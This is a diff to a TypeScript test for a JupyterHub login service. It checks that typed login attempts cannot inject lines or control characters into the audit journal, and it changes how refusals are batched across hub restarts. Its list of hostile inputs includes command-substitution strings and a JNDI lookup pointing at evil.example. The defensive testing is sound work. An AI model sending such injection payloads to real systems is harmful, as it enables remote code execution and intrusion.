@@ -6,7 +6,7 @@ import { after, before, test } from 'node:test'
 import { TOTP } from 'otpauth'
 import { bootProduct, choosePassword, type Product, TLJH_TS } from '../host/product.ts'
 import { type Answer, type Visitor, visit } from '../host/visitor.ts'
-import { auditOf, journalOf } from './traces.ts'
+import { auditOf, type Entry, journalOf } from './traces.ts'
 import { lines, say, statusesIn } from './wire.ts'
 
 let product: Product
@@ -244,8 +244,8 @@ test('nothing that is typed becomes a line of the log, a field of an entry, or a
     '$(touch /tmp/owned)`touch /tmp/owned`',
     '%s%n%x $' + '{jndi:ldap://evil.example/x}',
   ]
-  const entries = await auditOf(host, knock, async () => {
-    for (const text of hostile) {
+  async function tryAll(texts: readonly string[]): Promise<void> {
+    for (const text of texts) {
       assert.equal((await knock(text, text)).status, 403, text)
       const visitor = visit(product.url)
       await visitor.request('/hub/welcome')
@@ -255,15 +255,32 @@ test('nothing that is typed becomes a line of the log, a field of an entry, or a
       assert.equal((await visitor.request('/hub/home', { headers: cookie })).status, 302)
       assert.equal((await visitor.request('/hub/second-factor', { headers: cookie })).status, 302)
     }
-  })
-  assert.ok(entries.length >= 2 * hostile.length)
+  }
+  // A hub that has just started writes each of the first ten refusals in an entry of its own.
+  const restartHub = () => host.run(['systemctl', 'restart', 'tljh-hub'])
+  const entries: Entry[] = []
+  for (const half of [hostile.slice(0, 5), hostile.slice(5)]) {
+    await restartHub()
+    const own = await auditOf(host, knock, () => tryAll(half))
+    assert.ok(own.length >= 2 * half.length)
+    entries.push(...own)
+  }
+  // Those after them are joined, and what is joined is written when the hub stops.
+  await tryAll(hostile.slice(0, 5))
+  await tryAll(hostile.slice(0, 5))
+  await restartHub()
+  const joined = (await journalOf(host, 'tljh-audit')).filter(entry => entry.TLJH_COUNT !== undefined)
+  assert.ok(joined.some(({ MESSAGE }) => String(MESSAGE).includes('more within a minute')))
+  entries.push(...joined)
   for (const entry of entries) {
     assert.equal(entry.TLJH_EVENT, 'login-refused')
-    assert.notEqual(entry.TLJH_WHO, 'root')
-    for (const name of ['MESSAGE', 'TLJH_WHO']) {
-      assert.equal(typeof entry[name], 'string', 'what the journal takes for no text comes as a list of bytes')
+    // An entry for several refusals has several names.
+    const names = [entry.TLJH_WHO].flat()
+    assert.ok(!names.includes('root'))
+    for (const text of [entry.MESSAGE, ...names]) {
+      assert.equal(typeof text, 'string', 'what the journal takes for no text comes as a list of bytes')
       // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
-      assert.doesNotMatch(String(entry[name]), /[\u0000-\u001f\u007f-\u009f\u2028\u202e]/)
+      assert.doesNotMatch(String(text), /[\u0000-\u001f\u007f-\u009f\u2028\u202e]/)
     }
   }
   for (const { MESSAGE } of await journalOf(host, 'tljh-hub'))
